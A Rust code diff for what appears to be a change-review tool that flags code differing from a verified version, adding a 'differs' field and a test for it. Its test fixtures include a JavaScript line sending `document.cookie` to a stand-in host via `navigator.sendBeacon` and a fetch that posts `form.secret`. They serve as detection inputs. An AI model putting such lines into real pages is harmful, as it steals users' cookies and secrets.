@@ -112,7 +112,7 @@ pub(super) struct FactRow {
     pub(super) sites: Vec<SiteRow>,
     pub(super) more: usize,
     /// Places of the verified version that have no equal now.
-    pub(super) gone: Vec<(usize, Text)>,
+    pub(super) gone: Vec<GoneRow>,
 }
 
 pub(super) struct SiteRow {
@@ -120,13 +120,23 @@ pub(super) struct SiteRow {
     pub(super) excerpt: Text,
     pub(super) means: Option<Text>,
     pub(super) in_string: bool,
+    /// Where it differs from what stood there, if it looks the same.
+    pub(super) differs: Option<(Place, Text)>,
+}
+
+/// A place of the verified version.
+pub(super) struct GoneRow {
+    pub(super) line: usize,
+    pub(super) excerpt: Text,
+    /// Where it differs from what stands there now, if it looks the same.
+    pub(super) differs: Option<(usize, Text)>,
 }
 
 /// A guard that is gone, or another.
 pub(super) struct LossRow {
     pub(super) text: String,
     /// Places of the verified version.
-    pub(super) gone: Vec<(usize, Text)>,
+    pub(super) gone: Vec<GoneRow>,
     pub(super) others: Vec<SiteRow>,
 }
 
@@ -327,8 +337,13 @@ fn fact_row(fact: &Fact, is_compared: bool, shown: &Shown) -> FactRow {
     }
 }
 
-fn gone(sites: &[Site]) -> Vec<(usize, Text)> {
-    sites.iter().map(|site| (site.line, Text::of_code(&site.excerpt))).collect()
+fn gone(sites: &[Site]) -> Vec<GoneRow> {
+    let row = |site: &Site| GoneRow {
+        line: site.line,
+        excerpt: Text::of_code(&site.excerpt),
+        differs: site.differs.as_ref().map(|there| (there.line, Text::of_code(&there.excerpt))),
+    };
+    sites.iter().map(row).collect()
 }
 
 fn loss_row(loss: &Loss, shown: &Shown) -> LossRow {
@@ -345,6 +360,7 @@ fn site_row(site: &Site, shown: &Shown) -> SiteRow {
         excerpt: Text::of_code(&site.excerpt),
         means: site.means.as_deref().map(Text::of),
         in_string: site.in_string,
+        differs: site.differs.as_ref().map(|there| (shown.place(there.line), Text::of_code(&there.excerpt))),
     }
 }
 
@@ -440,6 +456,17 @@ mod tests {
         }
         let loud = found("f(1);", "f(1); navigator.sendBeacon('https://a.test/', document.cookie)");
         assert!(loud.nothing_new.is_none() && !loud.summary.is_empty());
+    }
+
+    #[test]
+    fn of_places_that_look_the_same_it_is_shown_where_they_differ() {
+        let sent = |body: &str| format!("fetch('/a', {{ method: 'POST', body: form.{body} }})");
+        let found = found(&sent("text"), &sent("secret"));
+        let fact = &found.groups[0].facts[0];
+        let (place, there) = fact.sites[0].differs.as_ref().unwrap();
+        assert_eq!((place.link.as_deref(), there.to_string()), (Some("#n3"), "body: form.secret".to_owned()));
+        let (line, was) = fact.gone[0].differs.as_ref().unwrap();
+        assert_eq!((*line, was.to_string()), (3, "body: form.text".to_owned()));
     }
 
     #[test]
